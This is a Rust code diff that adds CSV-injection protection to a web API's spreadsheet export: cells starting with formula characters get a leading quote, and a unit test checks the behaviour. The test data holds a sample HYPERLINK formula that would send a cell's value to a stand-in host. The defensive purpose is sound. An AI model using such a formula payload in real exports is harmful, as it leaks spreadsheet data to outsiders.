@@ -74,12 +74,26 @@ pub fn optional_text(input: Option<String>) -> Option<String> {
     input.map(|t| t.trim().to_owned()).filter(|t| !t.is_empty())
 }
 
+/// A cell as a spreadsheet should show it: text starting with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return (a formula to Excel and LibreOffice: CSV injection) gets a leading `'`, which
+/// they show as text. Numbers (`-12`, `+3.5`) are left as they are.
+pub fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if formula && cell.parse::<f64>().is_err() {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
 /// CSV with a header row, UTF-8 with a byte-order mark so that spreadsheet programs show Persian
-/// text correctly.
+/// text correctly. Text that a spreadsheet would run as a formula is written inert (`spreadsheet_safe`).
 pub fn csv_response(rows: &[Vec<String>]) -> Result<actix_web::HttpResponse, ApiError> {
     let mut writer = csv::Writer::from_writer(Vec::from("\u{feff}".as_bytes()));
     for row in rows {
-        writer.write_record(row).map_err(ApiError::internal)?;
+        writer
+            .write_record(row.iter().map(|cell| spreadsheet_safe(cell).into_owned()))
+            .map_err(ApiError::internal)?;
     }
     let body = writer.into_inner().map_err(ApiError::internal)?;
     Ok(actix_web::HttpResponse::Ok()
@@ -88,4 +102,26 @@ pub fn csv_response(rows: &[Vec<String>]) -> Result<actix_web::HttpResponse, Api
             header::HeaderValue::from_static("text/csv; charset=utf-8"),
         ))
         .body(body))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::spreadsheet_safe;
+
+    #[test]
+    fn formulas_are_written_as_text_and_numbers_as_numbers() {
+        for formula in [
+            "=HYPERLINK(\"https://x/?\"&A1,\"x\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+        ] {
+            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
+        }
+        for plain in ["-12", "+3.5", "0.25", "national_id", "زهرا", "", "a=b"] {
+            assert_eq!(spreadsheet_safe(plain), plain);
+        }
+    }
 }
